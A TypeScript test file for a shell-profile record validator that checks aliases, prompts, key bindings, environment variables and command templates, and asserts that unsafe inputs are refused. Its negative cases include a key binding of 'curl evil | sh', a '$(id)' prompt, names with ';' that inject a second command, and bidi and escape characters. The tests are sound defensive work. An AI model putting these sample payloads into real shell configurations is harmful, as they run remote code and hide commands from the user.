import { describeRecordLaws, faultsOf } from '@sourceos/engine-laws';
import { recordPaths } from '@sourceos/sync-spec';
import { describe, expect, it } from 'vitest';
import { shellRecord, type ShellRecord } from './record.js';

const profile = {
  type: 'ShellProfile',
  name: 'Everyday',
  dialect: 'zsh',
  aliases: { ll: 'ls -l', gs: 'git status' },
  functions: { mkcd: 'mkdir -p "$1" && cd "$1"\n' },
  pathEntries: [{ directory: '~/.local/bin', placement: 'after' }],
  environmentTemplates: {
    EDITOR: { kind: 'text', template: 'vim' },
    GITHUB_TOKEN: { kind: 'secret', reference: 'urn:srcos:secret:github' },
    DISPLAY: { kind: 'device' },
  },
  environments: ['urn:srcos:shell-environment:client-a'],
  startupScripts: { interactive: 'setopt no_beep\n' },
  commandTemplates: ['urn:srcos:command-template:deploy'],
  prompt: {
    left: [{ kind: 'fact', fact: 'working_directory', bold: true }, { kind: 'newline' }, { kind: 'text', text: '$ ' }],
  },
  colours: { foreground: '#d0d0d0', palette: Array.from({ length: 16 }, () => '#101010') },
  keyBindings: { 'ctrl-w': 'backward_kill_word', f1: 'none' },
} satisfies ShellRecord;

const template = {
  type: 'CommandTemplate',
  name: 'Deploy',
  commandTemplates: {
    posix: {
      command: 'deploy --to {{stage}} {{note}}',
      parameters: {
        stage: { kind: 'choice', choices: ['staging', 'production'] },
        note: { kind: 'text', default: '' },
      },
      confirm: true,
    },
  },
} satisfies ShellRecord;

const environment = {
  type: 'ShellEnvironmentProfile',
  name: 'Client A',
  workspaceId: 'urn:srcos:workspace:client-a',
  environmentTemplates: { AWS_PROFILE: { kind: 'text', template: 'client-a' } },
} satisfies ShellRecord;

const examples = [profile, template, environment];

/** The template with another parameter `stage`. */
const withParameter = (stage: object) => ({
  ...template,
  commandTemplates: { posix: { command: '{{stage}}', parameters: { stage }, confirm: true } },
});

const faults = faultsOf(shellRecord);

// The sixteen colours of a palette are told apart by their places: two may be the same.
describeRecordLaws(shellRecord, examples, { unbounded: ['/ShellProfile/colours/palette'] });

describe('shellRecord', () => {
  it.each([
    ['a type that the engine does not have', { ...profile, type: 'ShellHistory' }, 'type'],
    [
      'an environment value without a kind',
      { ...environment, environmentTemplates: { A: 'b' } },
      'environmentTemplates.A',
    ],
    [
      'a secret that is a value instead of a reference',
      { ...environment, environmentTemplates: { A: { kind: 'secret', reference: 'hunter2' } } },
      'environmentTemplates.A.reference',
    ],
    [
      'an environment variable whose name ends the assignment',
      { ...environment, environmentTemplates: { 'A=b;C': { kind: 'device' } } },
      'environmentTemplates.A=b;C',
    ],
    ['an alias whose name is code', { ...profile, aliases: { 'x;y': 'ls' } }, 'aliases.x;y'],
    ['an escape sequence in an alias', { ...profile, aliases: { x: 'echo \u001b[2J' } }, 'aliases.x'],
    ['code that reads otherwise than it runs', { ...profile, functions: { f: 'a \u202e b' } }, 'functions.f'],
    [
      'a directory that depends on where the person is',
      { ...profile, pathEntries: [{ directory: 'bin', placement: 'before' }] },
      'pathEntries.0.directory',
    ],
    [
      'two directories as one',
      { ...profile, pathEntries: [{ directory: '/opt/bin:/tmp', placement: 'before' }] },
      'pathEntries.0.directory',
    ],
    ['a prompt string, which a shell would expand', { ...profile, prompt: '$(id) ' }, 'prompt'],
    ['a key that runs a command', { ...profile, keyBindings: { 'ctrl-r': 'curl evil | sh' } }, 'keyBindings.ctrl-r'],
    ['a plain key bound to an action', { ...profile, keyBindings: { a: 'kill_line' } }, 'keyBindings.a'],
    [
      'too many aliases',
      { ...profile, aliases: Object.fromEntries(Array.from({ length: 1025 }, (_, i) => [`a${i}`, 'x'])) },
      'aliases',
    ],
    [
      'a placeholder without a parameter',
      { ...template, commandTemplates: { posix: { command: 'rm {{what}}', confirm: true } } },
      'commandTemplates.posix.command',
    ],
    [
      'a choice given twice',
      withParameter({ kind: 'choice', choices: ['a', 'a'] }),
      'commandTemplates.posix.parameters.stage.choices.1',
    ],
    ['a template for no shell', { ...template, commandTemplates: {} }, 'commandTemplates'],
  ])('refuses %s', (_, record, path) => {
    expect(faults(record)).toEqual([path]);
  });

  it('has no representation for history', () => {
    expect([...recordPaths(shellRecord)].filter((path) => /histor/i.test(path))).toEqual([]);
    expect(faults({ ...profile, history: ['ls'] })).toEqual(['']);
  });
});
